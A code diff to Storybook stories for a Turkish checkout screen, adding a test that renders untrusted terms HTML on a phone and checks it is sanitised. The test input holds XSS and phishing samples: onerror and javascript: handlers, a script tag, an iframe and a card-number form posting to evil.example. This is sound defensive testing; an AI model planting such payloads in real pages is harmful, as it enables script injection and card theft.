@@ -177,6 +177,43 @@ export const OpenAccountByDefault: Story = {
   },
 };
 
+/** Terms as an editor pastes them, and as somebody else would like them to be. */
+const terms = `<h3>Açık hesap koşulları</h3>
+<table width="1400"><tr>${['Vade', 'Limit', 'Kullanılan', 'Kalan', 'Faiz', 'Temsilci']
+  .map((name) => `<th>${name}</th>`)
+  .join('')}</tr><tr>${'<td>1.234.567,89&nbsp;TL</td>'.repeat(6)}</tr></table>
+<p style="position:fixed;inset:0;width:2000px;color:#b00020">Bakiyenizi <a href="https://example.com/sozlesme">sözleşme</a>
+kapsamında ödeyin.</p><p>${'x'.repeat(200)}</p><img src="x" onerror="document.title='çalıştı'" width="3000">
+<form action="https://evil.example"><input name="cardNumber"><button>Öde</button></form>
+<iframe src="https://evil.example"></iframe><a href="javascript:document.title='çalıştı'">tıkla</a>
+<script>document.title='çalıştı'</script><style>main { display: none }</style>`;
+
+export const MobileTerms: Story = {
+  beforeEach: ({ msw }) =>
+    msw.use(given.checkout({ ...checkouts.checkoutOpenAccount, acikHesapMessage: terms })),
+  globals: phone,
+  parameters: { covers: ['CHKT-01', 'FAIL-05'] },
+  play: async ({ canvas, canvasElement, userEvent }) => {
+    const table = await canvas.findByRole('table');
+    await expect(canvas.getByRole('link', { name: 'sözleşme' })).toHaveAttribute(
+      'rel',
+      'noopener noreferrer',
+    );
+    await userEvent.click(canvas.getByText('tıkla'));
+    await expect(canvasElement.querySelector('iframe, script, style, [name="cardNumber"]')).toBeNull();
+    await expect(canvas.queryByRole('button', { name: 'Öde' })).toBeNull();
+    await expect(document.title).not.toBe('çalıştı');
+    await expect(getComputedStyle(canvas.getByText(/kapsamında ödeyin/)).position).toBe('static');
+    // What is wider than a phone scrolls in its own box, or stays within it.
+    const section = canvas.getByRole('region', { name: 'Ödeme Şekli' }).getBoundingClientRect();
+    const box = table.parentElement as HTMLElement;
+    await expect(box.scrollWidth).toBeGreaterThan(box.clientWidth);
+    await expect(box.getBoundingClientRect().right).toBeLessThanOrEqual(section.right);
+    await expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(innerWidth);
+    await expect(canvas.getByRole('button', { name: 'Siparişi Bitir' })).toBeVisible();
+  },
+};
+
 export const FinishesOnce: Story = {
   args: { orderId: String(basket.id) },
   beforeEach: inAShop,
@@ -241,7 +278,9 @@ function LeaveAndReturn(props: Parameters<typeof Checkout>[0]) {
   const [isHere, setHere] = useState(true);
   return (
     <>
-      <Button onPress={() => setHere((here) => !here)}>{isHere ? 'Ayrıl' : 'Geri'}</Button>
+      <div style={{ marginBottom: 24 }}>
+        <Button onPress={() => setHere((here) => !here)}>{isHere ? 'Ayrıl' : 'Geri'}</Button>
+      </div>
       {isHere && <Checkout {...props} />}
     </>
   );
